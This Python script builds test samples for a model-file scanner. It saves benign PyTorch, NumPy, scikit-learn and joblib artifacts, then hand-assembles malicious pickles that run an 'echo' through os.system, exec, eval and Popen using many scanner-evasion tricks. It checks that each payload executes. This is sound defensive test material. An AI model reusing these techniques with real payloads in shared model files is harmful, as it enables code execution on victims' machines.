#!/usr/bin/python3
"""Writes samples/pickle/: real artifacts made by torch, numpy, scikit-learn and joblib (benign),
and malicious pickles for every technique class the pickle engine handles, with harmless payloads
(`echo`). Each malicious sample is loaded once by CPython in a child process to prove it really
runs its payload (or, where noted, really fails the way the expectation says).

Also writes samples/pickle/expected.json (checked by test/samples.test.ts through the whole
engine; zip-based and compressed samples need the zip and decompression containers).

Run from the repository root with /usr/bin/python3 (Debian python3-torch, -numpy, -sklearn, -joblib).
Legacy PyTorch files name storages by memory address, so they differ from run to run.
"""
import os

import base64
import io
import json
import marshal
import os
import pickle
import shutil
import struct
import subprocess
import sys
import warnings
import zipfile

warnings.filterwarnings("ignore")

import joblib
import numpy as np
import torch
from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
from sklearn.feature_extraction.text import TfidfVectorizer
from sklearn.linear_model import LogisticRegression
from sklearn.neighbors import KNeighborsClassifier
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

ROOT = os.path.join("samples", "pickle")
EXPECTED = {}
EXPECTED_ZIP = {}
PAYLOAD = "echo modelgate-sample"
MARK = b"modelgate-sample"

torch.manual_seed(0)
np.random.seed(0)


def path(rel):
    p = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def expect(rel, verdict, rules=(), callee=None, zip_based=False, **extra):
    entry = {"verdict": verdict}
    if rules:
        entry["rules"] = list(rules)
    if callee is not None:
        entry["callee"] = callee
    entry.update(extra)
    (EXPECTED_ZIP if zip_based else EXPECTED)[f"pickle/{rel}"] = entry


def write(rel, data):
    with open(path(rel), "wb") as f:
        f.write(data)


def proves(rel, loader="pickle", runs=True):
    """Loads the sample in a child CPython; `runs` says whether the echo payload must appear."""
    code = {
        "pickle": "import pickle,sys; print(repr(pickle.load(open(sys.argv[1],'rb'))))",
        "pickle-all": "import pickle,sys\nf=open(sys.argv[1],'rb')\nwhile True:\n  try: pickle.load(f)\n  except EOFError: break",
        "python-unpickler": "import pickle,sys; pickle._Unpickler(open(sys.argv[1],'rb')).load()",
        "torch": "import torch,sys; torch.load(sys.argv[1])",
        "numpy": "import numpy,sys; numpy.load(sys.argv[1], allow_pickle=True)",
        "joblib": "import joblib,sys; joblib.load(sys.argv[1])",
    }[loader]
    r = subprocess.run([sys.executable, "-c", code, path(rel)], capture_output=True, timeout=60)
    ran = MARK in r.stdout or MARK in r.stderr
    if ran != runs:
        raise SystemExit(f"{rel}: payload {'did not run' if runs else 'ran'} under {loader}: {r.stderr[-400:]!r}")


# ---------------------------------------------------------------- opcode helpers

def s4(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def bu(s):  # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def glob(m, n):  # GLOBAL
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def sglob(m, n):  # STACK_GLOBAL
    return s4(m) + s4(n) + b"\x93"


def bb(data):  # BINBYTES
    return b"B" + struct.pack("<I", len(data)) + data


P2 = b"\x80\x02"
P4 = b"\x80\x04"
CALL1 = b"\x85R"  # TUPLE1 REDUCE
STOP = b"."


class Evil:
    def __reduce__(self):
        return (os.system, (PAYLOAD,))


# ================================================================= benign: PyTorch

def net():
    return torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))


m = net()
torch.save(m.state_dict(), path("torch/state_dict.pt"))
expect("torch/state_dict.pt", "clean", zip_based=True)
torch.save(m.state_dict(), path("torch/state_dict_legacy.pt"), _use_new_zipfile_serialization=False)
expect("torch/state_dict_legacy.pt", "clean")
torch.save(m, path("torch/module.pt"))
expect("torch/module.pt", "clean", zip_based=True)
torch.save(m, path("torch/module_legacy.pt"), _use_new_zipfile_serialization=False)
expect("torch/module_legacy.pt", "clean")
torch.jit.script(m).save(path("torch/torchscript.pt"))
expect("torch/torchscript.pt", "clean", zip_based=True)
opt = torch.optim.Adam(m.parameters(), lr=1e-3)
m(torch.randn(2, 4)).sum().backward()
opt.step()
torch.save(opt.state_dict(), path("torch/optimizer.pt"))
expect("torch/optimizer.pt", "clean", zip_based=True)
torch.save(opt.state_dict(), path("torch/optimizer_legacy.pt"), _use_new_zipfile_serialization=False)
expect("torch/optimizer_legacy.pt", "clean")
ckpt = {
    "epoch": 3,
    "model": m.state_dict(),
    "optimizer": opt.state_dict(),
    "torch_rng": torch.get_rng_state()[:16],
    "numpy_rng": np.random.get_state(),
    "half": torch.zeros(3, dtype=torch.float16),
    "ints": torch.arange(5),
    "mask": torch.tensor([True, False]),
}
torch.save(ckpt, path("torch/checkpoint_legacy.pt"), _use_new_zipfile_serialization=False)
expect("torch/checkpoint_legacy.pt", "clean")
# A tensor pickled with plain pickle: torch.storage._load_from_bytes(<a torch zip>)
write("torch/tensor_plain.pkl", pickle.dumps({"w": torch.ones(2, 2)}, protocol=4))
expect("torch/tensor_plain.pkl", "clean", zip_based=True)

# ================================================================= benign: NumPy

np.save(path("numpy/float.npy"), np.linspace(0, 1, 12, dtype=np.float32).reshape(3, 4))
expect("numpy/float.npy", "clean")
np.save(path("numpy/structured.npy"), np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8", (2,))]))
expect("numpy/structured.npy", "clean")
np.save(path("numpy/fortran.npy"), np.asfortranarray(np.arange(6, dtype=np.int64).reshape(2, 3)))
expect("numpy/fortran.npy", "clean")
np.save(path("numpy/object.npy"), np.array([1, "two", None, [3.0, 4], {"k": b"v"}, (5, 6)], dtype=object), allow_pickle=True)
expect("numpy/object.npy", "clean", rules=["numpy/object-array"])
np.savez(path("numpy/arrays.npz"), a=np.arange(4), b=np.eye(2))
expect("numpy/arrays.npz", "clean", zip_based=True)
np.savez_compressed(path("numpy/arrays_compressed.npz"), a=np.arange(4), o=np.array([{"x": 1}], dtype=object))
expect("numpy/arrays_compressed.npz", "clean", zip_based=True)

# ================================================================= benign: scikit-learn / joblib

rng = np.random.RandomState(0)
X = rng.rand(40, 4)
y = (X[:, 0] > 0.5).astype(int)
forest = RandomForestClassifier(n_estimators=2, max_depth=2, random_state=0).fit(X, y)
estimators = {
    "pipeline": make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y),
    "forest": forest,
    "hist_gb": HistGradientBoostingClassifier(max_iter=3).fit(X, y),
    "knn": KNeighborsClassifier(3).fit(X, y),
    "tfidf": TfidfVectorizer().fit(["a model file", "another model file", "scan me"]),
}
for name, est in estimators.items():
    write(f"sklearn/{name}.pkl", pickle.dumps(est, protocol=4))
    expect(f"sklearn/{name}.pkl", "clean")
write("sklearn/forest_p2.pkl", pickle.dumps(forest, protocol=2))
expect("sklearn/forest_p2.pkl", "clean")

joblib.dump(forest, path("joblib/forest.joblib"))
expect("joblib/forest.joblib", "clean")
arrays = {"w": np.arange(50, dtype=np.float64), "o": np.array(["x", 1, None], dtype=object), "m": np.eye(3, dtype=np.float32)}
joblib.dump(arrays, path("joblib/arrays.joblib"))
expect("joblib/arrays.joblib", "clean")
for comp in ["zlib", "gzip", "bz2", "lzma", "xz"]:
    joblib.dump(forest, path(f"joblib/forest_{comp}.joblib"), compress=(comp, 3))
    expect(f"joblib/forest_{comp}.joblib", "clean", zip_based=True)

# ================================================================= benign: plain Python data

import collections
import datetime
import decimal
import fractions
import uuid

data = {
    "ints": [0, 1, -1, 255, 65535, 2**31, -(2**31), 2**70],
    "floats": [0.5, -1e300, float("inf")],
    "text": "unicode ✓",
    "bytes": b"\x00\x01binary",
    "bytearray": bytearray(b"ba"),
    "tuple": (1, (2, (3,))),
    "set": {1, 2},
    "frozenset": frozenset({"a"}),
    "none": None,
    "bools": [True, False],
    "complex": complex(1, 2),
    "ordered": collections.OrderedDict(a=1),
    "default": collections.defaultdict(list, {"x": [1]}),
    "deque": collections.deque([1, 2]),
    "counter": collections.Counter("aab"),
    "when": datetime.datetime(2024, 1, 2, 3, 4, 5),
    "delta": datetime.timedelta(days=1),
    "decimal": decimal.Decimal("1.5"),
    "fraction": fractions.Fraction(1, 3),
    "uuid": uuid.UUID(int=1),
    "slice": slice(1, 5, 2),
    "range": range(3),
}
shared = [1, 2]
data["shared"] = (shared, shared)
for proto in range(6):
    write(f"plain/data_p{proto}.pkl", pickle.dumps(data, protocol=proto))
    expect(f"plain/data_p{proto}.pkl", "clean")
buf = io.BytesIO()
pickle.dump({"first": 1}, buf, protocol=4)
pickle.dump(["second"], buf, protocol=2)
write("plain/concatenated.pkl", buf.getvalue())
expect("plain/concatenated.pkl", "clean")

# ================================================================= malicious

def mal(rel, data, verdict, rules, callee=None, loader="pickle", runs=True, **extra):
    write(rel, data)
    if loader is not None:
        proves(rel, loader, runs)
    expect(rel, verdict, rules, callee, **extra)


DG = "pickle/dangerous-global"

# direct REDUCE, as pickle.dumps writes it (os.system pickles as posix.system)
for proto in (0, 2, 4):
    mal(f"malicious/reduce_p{proto}.pkl", pickle.dumps(Evil(), protocol=proto), "malicious", [DG], "posix.system")

# Python 2 names mapped by _compat_pickle below protocol 3
mal("malicious/compat_builtin_eval.pkl", P2 + glob("__builtin__", "eval") + bu(f"__import__('os').system('{PAYLOAD}')") + CALL1 + STOP,
    "malicious", [DG], "builtins.eval", evidence={"rawName": "__builtin__.eval"})
mal("malicious/compat_commands.pkl", glob("commands", "getoutput") + b"(" + b"V" + PAYLOAD.encode() + b"\ntR.",
    "malicious", [DG], "subprocess.getoutput")
# a PROTO 2 in the middle turns the renames on again for STACK_GLOBAL
mal("malicious/proto_downgrade.pkl", P4 + b"\x80\x02" + sglob("__builtin__", "exec") + bu(f"__import__('os').system('{PAYLOAD}')") + CALL1 + STOP,
    "malicious", [DG], "builtins.exec")

# INST / OBJ / NEWOBJ_EX
mal("malicious/inst.pkl", b"(" + bu(f"import os; os.system('{PAYLOAD}')") + b"ibuiltins\nexec\n.", "malicious", [DG], "builtins.exec")
mal("malicious/obj.pkl", b"(" + glob("os", "system") + bu(PAYLOAD) + b"o.", "malicious", [DG], "os.system")
mal("malicious/newobj_ex.pkl", P4 + sglob("subprocess", "Popen") + b"(" + bu("echo") + b"t}\x92.", "malicious", [DG], "subprocess.Popen",
    runs=False)

# STACK_GLOBAL fed from the memo, with unrelated opcodes in between (defeats look-back scanners)
mal("malicious/stack_global_memo.pkl",
    P4 + s4("os") + b"\x94" + s4("system") + b"\x94" + b"0" + b"0" + s4("collections") + s4("OrderedDict") + b"\x93" + b")R0"
    + b"h\x00h\x01\x93" + bu(PAYLOAD) + CALL1 + STOP, "malicious", [DG], "os.system")
# STACK_GLOBAL with protocol-0 STRING operands and no PROTO (GHSA-9gvj-pp9x-gcfr)
mal("malicious/stack_global_string.pkl", b"S'os'\nS'system'\n\x93S'" + PAYLOAD.encode() + b"'\n\x85R.", "malicious", [DG], "os.system")
# dotted names (protocol 4): logging imports os, so logging.os.system is os.system
mal("malicious/dotted_name.pkl", P4 + sglob("logging", "os.system") + bu(PAYLOAD) + CALL1 + STOP, "malicious", [DG], "logging.os.system")
# ... and a private alias: argparse imports os as _os
mal("malicious/dotted_private_alias.pkl", P4 + sglob("argparse", "_os.system") + bu(PAYLOAD) + CALL1 + STOP, "malicious", [DG],
    "argparse._os.system")

# resolver chains
mal("malicious/getattr_import.pkl",
    P2 + glob("builtins", "getattr") + glob("builtins", "__import__") + bu("os") + CALL1 + bu("system") + b"\x86R" + bu(PAYLOAD) + CALL1 + STOP,
    "malicious", [DG], "os.system")
mal("malicious/attrgetter.pkl",
    P2 + glob("operator", "attrgetter") + bu("system") + CALL1 + glob("builtins", "__import__") + bu("os") + CALL1 + CALL1 + bu(PAYLOAD) + CALL1 + STOP,
    "malicious", [DG], "os.system")
mal("malicious/methodcaller.pkl",
    P2 + glob("operator", "methodcaller") + bu("system") + bu(PAYLOAD) + b"\x86R" + glob("builtins", "__import__") + bu("os") + CALL1 + CALL1 + STOP,
    "malicious", [DG], "os.system")
mal("malicious/partial.pkl", P2 + glob("functools", "partial") + glob("os", "system") + bu(PAYLOAD) + b"\x86R)R.", "malicious", [DG], "os.system")
mal("malicious/resolve_name.pkl", P2 + glob("pkgutil", "resolve_name") + bu("os:system") + CALL1 + bu(PAYLOAD) + CALL1 + STOP, "malicious", [DG],
    "os.system")
mal("malicious/import_module.pkl",
    P2 + glob("builtins", "getattr") + glob("importlib", "import_module") + bu("os") + CALL1 + bu("system") + b"\x86R" + bu(PAYLOAD) + CALL1 + STOP,
    "malicious", [DG], "os.system")
mal("malicious/vars_getitem.pkl",
    P2 + glob("_operator", "getitem") + glob("builtins", "vars") + glob("builtins", "__import__") + bu("os") + CALL1 + CALL1 + bu("system") + b"\x86R"
    + bu(PAYLOAD) + CALL1 + STOP, "malicious", [DG], "os.system")
mal("malicious/sys_modules.pkl",
    P4 + sglob("builtins", "getattr") + sglob("_operator", "getitem") + sglob("sys", "modules") + s4("os") + b"\x86R" + s4("system") + b"\x86R"
    + bu(PAYLOAD) + CALL1 + STOP, "malicious", [DG], "os.system")
mal("malicious/object_getattribute.pkl",
    P4 + sglob("builtins", "object.__getattribute__") + sglob("builtins", "__import__") + s4("os") + CALL1 + s4("system") + b"\x86R" + bu(PAYLOAD)
    + CALL1 + STOP, "malicious", [DG], "os.system")

# protectai/modelscan#89: dict.get on numpy's __builtins__, and BUILD planting sys.modules on a
# numpy function so that numpy.prod.os.system is os.system
mal("malicious/builtins_dict_get.pkl",
    P4 + sglob("builtins", "dict.get") + sglob("numpy", "__builtins__") + s4("exec") + b"\x86R" + bu(f"__import__('os').system('{PAYLOAD}')")
    + CALL1 + STOP, "malicious", [DG], "builtins.exec")
mal("malicious/build_sys_modules.pkl",
    P4 + sglob("numpy", "prod") + b"N" + sglob("numpy", "core._internal.sys.modules") + b"\x86b0" + sglob("numpy", "prod.os.system")
    + bu(PAYLOAD) + CALL1 + STOP, "malicious", ["pickle/monkeypatch", DG], "numpy.prod.os.system")

# BUILD tricks: monkey-patch a class, then read the planted strings back through dotted names
mal("malicious/build_monkeypatch.pkl",
    P4 + sglob("argparse", "Namespace") + b"N}(" + s4("a") + s4("os") + s4("b") + s4("system") + b"u\x86b0"
    + sglob("argparse", "Namespace.a") + sglob("argparse", "Namespace.b") + b"\x93" + bu(PAYLOAD) + CALL1 + STOP,
    "malicious", ["pickle/monkeypatch", DG], "os.system")
# ... and plant __setstate__ on an instance, so the next BUILD calls it
mal("malicious/setstate_injection.pkl",
    P4 + sglob("argparse", "Namespace") + b")\x81" + b"N}" + s4("__setstate__") + sglob("os", "system") + b"s\x86b" + bu(PAYLOAD) + b"b.",
    "malicious", ["pickle/monkeypatch", DG], "os.system")
# ... or plant `extend`, so APPENDS calls it
mal("malicious/appends_hook.pkl",
    P4 + sglob("argparse", "Namespace") + b")\x81" + b"N}" + s4("extend") + sglob("os", "system") + b"s\x86b" + b"(" + bu(PAYLOAD) + b"e.",
    "malicious", ["pickle/monkeypatch", DG], "os.system", runs=False)
# copyreg._reconstructor calls base.__init__(obj, state) when base is not object
mal("malicious/reconstructor_base.pkl",
    P2 + glob("copyreg", "_reconstructor") + glob("subprocess", "Popen") + glob("subprocess", "Popen") + b"](" + bu("echo") + bu("modelgate-sample")
    + b"e" + b"\x87R.", "malicious", [DG], "subprocess.Popen")

# EXT opcodes: the stream registers the code itself ...
mal("malicious/ext_registered.pkl",
    P2 + glob("copyreg", "add_extension") + bu("os") + bu("system") + b"K\xf0\x87R0" + b"\x82\xf0" + bu(PAYLOAD) + CALL1 + STOP,
    "malicious", [DG], "os.system")
# ... or relies on the loading process's registry (a stock CPython raises)
mal("malicious/ext_unregistered.pkl", P2 + b"\x83\x34\x12" + bu(PAYLOAD) + CALL1 + STOP, "suspicious", ["pickle/ext-unregistered", "pickle/dynamic-call"],
    runs=False)

# a payload before a broken tail still runs
good = pickle.dumps(Evil(), protocol=2)
mal("malicious/truncated_tail.pkl", good[:-1] + b"X\xff\xff\x00\x00", "malicious", [DG, "pickle/malformed"], "posix.system")
mal("malicious/garbage_tail.pkl", good[:-1] + b"\xff\xfe garbage", "malicious", [DG, "pickle/malformed"], "posix.system")

# nested deserializers and code
inner = pickle.dumps(Evil(), protocol=4)
mal("malicious/nested_loads.pkl", P4 + sglob("pickle", "loads") + bb(inner) + CALL1 + STOP, "malicious", [DG, "pickle/nested-payload"], "posix.system")
mal("malicious/nested_base64.pkl",
    P4 + sglob("pickle", "loads") + sglob("base64", "b64decode") + bu(base64.b64encode(inner).decode()) + CALL1 + CALL1 + STOP,
    "malicious", [DG, "pickle/nested-payload"], "posix.system")
code = compile(f"import os\nos.system('{PAYLOAD}')", "<payload>", "exec")
mal("malicious/marshal_function.pkl",
    P4 + sglob("types", "FunctionType") + sglob("marshal", "loads") + bb(marshal.dumps(code)) + CALL1 + b"}\x86R)R.",
    "malicious", [DG, "pickle/nested-payload"], "marshal.loads")
mal("malicious/exec_string.pkl", P4 + sglob("builtins", "exec") + bu(f"import os\nos.system('{PAYLOAD}')") + CALL1 + STOP,
    "malicious", [DG, "pickle/nested-payload"], "os.system")
mal("malicious/cprofile_run.pkl", P4 + sglob("cProfile", "run") + bu(f"import os; os.system('{PAYLOAD}')") + CALL1 + STOP, "malicious", [DG],
    "cProfile.run")
mal("malicious/codetype.pkl", P4 + sglob("types", "CodeType") + b")R.", "malicious", [DG], "types.CodeType", runs=False)

# torch.storage._load_from_bytes is what plain pickle writes for tensors; its argument is analysed
legacy_payload = io.BytesIO()
pickle.dump(Evil(), legacy_payload, protocol=2)
mal("malicious/torch_load_from_bytes.pkl", P4 + sglob("torch.storage", "_load_from_bytes") + bb(legacy_payload.getvalue()) + CALL1 + STOP,
    "malicious", [DG, "pickle/nested-payload"], "posix.system")

# what a payload can do besides run commands
mal("malicious/urlopen.pkl", P4 + sglob("urllib.request", "urlopen") + bu("http://127.0.0.1:9/") + CALL1 + STOP, "malicious", [DG],
    "urllib.request.urlopen", runs=False)
mal("malicious/open_write.pkl", P4 + sglob("builtins", "open") + bu(os.devnull) + bu("w") + b"\x86R.", "malicious", [DG], "builtins.open", runs=False)

# names computed at run time
# ... that the engine evaluates (str.join of literals) ...
mal("malicious/computed_join.pkl",
    P4 + sglob("builtins", "str.join") + s4("") + b"](" + s4("o") + s4("s") + b"e" + b"\x86R" + s4("system") + b"\x93" + bu(PAYLOAD) + CALL1 + STOP,
    "malicious", [DG], "os.system")
# ... and that it cannot (str.lower of a literal is left to run time)
mal("malicious/computed_global.pkl",
    P4 + sglob("builtins", "str.lower") + s4("OS") + CALL1 + s4("system") + b"\x93" + bu(PAYLOAD) + CALL1 + STOP,
    "malicious", ["pickle/dynamic-import", "pickle/dynamic-call"])

# C and Python unpicklers disagree: an opcode crosses the FRAME end (C reads on, pickle.py raises)
body = sglob("os", "system") + bu(PAYLOAD) + CALL1 + STOP
framed = P4 + b"\x95" + struct.pack("<Q", 7) + body  # the frame ends inside SHORT_BINUNICODE 'system'
mal("malicious/frame_straddle.pkl", framed, "malicious", ["pickle/frame-mismatch", DG], "os.system")
proves("malicious/frame_straddle.pkl", "python-unpickler", runs=False)

# a pickle followed by a zip (polyglot)
zbuf = io.BytesIO()
with zipfile.ZipFile(zbuf, "w") as z:
    z.writestr(zipfile.ZipInfo("readme.txt", date_time=(2024, 1, 1, 0, 0, 0)), "benign")
mal("malicious/polyglot_zip.pkl", pickle.dumps(Evil(), protocol=2) + zbuf.getvalue(), "malicious", [DG, "format/polyglot"], "posix.system")

# plain-pickle oddities that are suspicious rather than malicious
mal("malicious/persistent_id.pkl", P2 + bu("storage") + b"Q.", "suspicious", ["pickle/persistent-id"], runs=False)
mal("malicious/unknown_global.pkl", P2 + glob("mymodel.layers", "Block") + b")\x81.", "suspicious", ["pickle/unknown-global"],
    callee="mymodel.layers.Block", runs=False)
mal("malicious/deep_marks.pkl", b"(" * 150_000 + b"N.", "invalid", ["scan/budget-exceeded"], runs=False)

# ================================================================= malicious: model containers

class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(2, 2)

    def __reduce__(self):
        return (os.system, (PAYLOAD,))


torch.save({"model": m.state_dict(), "hook": Evil()}, path("malicious/torch_zip_payload.pt"))
proves("malicious/torch_zip_payload.pt", "torch")
expect("malicious/torch_zip_payload.pt", "malicious", [DG], "posix.system", zip_based=True)
torch.save({"model": m.state_dict(), "hook": Evil()}, path("malicious/torch_legacy_payload.pt"), _use_new_zipfile_serialization=False)
proves("malicious/torch_legacy_payload.pt", "torch")
expect("malicious/torch_legacy_payload.pt", "malicious", [DG], "posix.system")

# legacy file whose magic number is computed by eval (picklescan GHSA "magic bypass")
lb = io.BytesIO()
pickle.dump(0x1950A86A20F9469CFC6C, lb, protocol=2)
lb = lb.getvalue()
b2 = io.BytesIO()
for obj in (1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, Evil(), []):
    pickle.dump(obj, b2, protocol=2)
magic_eval = P2 + glob("builtins", "eval") + bu("0x1950A86A20F9469CFC6C") + CALL1 + STOP
mal("malicious/legacy_magic_eval.pt", magic_eval + b2.getvalue(), "malicious", [DG], "builtins.eval", loader="torch")
mal("malicious/legacy_payload_storage_keys.pt", lb + b2.getvalue(), "malicious", [DG], "posix.system", loader="torch")

np.save(path("malicious/numpy_object_payload.npy"), np.array([Evil()], dtype=object), allow_pickle=True)
proves("malicious/numpy_object_payload.npy", "numpy")
expect("malicious/numpy_object_payload.npy", "malicious", [DG, "numpy/object-array"], "posix.system")

# joblib: the payload sits after an inline array, so it is only seen when the array is skipped
joblib.dump({"weights": np.arange(200, dtype=np.float64), "hook": Evil()}, path("malicious/joblib_after_array.joblib"))
proves("malicious/joblib_after_array.joblib", "joblib")
expect("malicious/joblib_after_array.joblib", "malicious", [DG], "posix.system")
joblib.dump({"weights": np.arange(20, dtype=np.float64), "hook": Evil()}, path("malicious/joblib_zlib.joblib"), compress=("zlib", 3))
proves("malicious/joblib_zlib.joblib", "joblib")
expect("malicious/joblib_zlib.joblib", "malicious", [DG], "posix.system", zip_based=True)

# ================================================================= expectations

with open(os.path.join(ROOT, "expected.json"), "w") as f:
    json.dump(dict(sorted({**EXPECTED, **EXPECTED_ZIP}.items())), f, indent=1)
    f.write("\n")
total = sum(os.path.getsize(os.path.join(d, f)) for d, _, fs in os.walk(ROOT) for f in fs)
print(f"samples/pickle: {len(EXPECTED) + len(EXPECTED_ZIP)} samples, {total} bytes", file=sys.stderr)
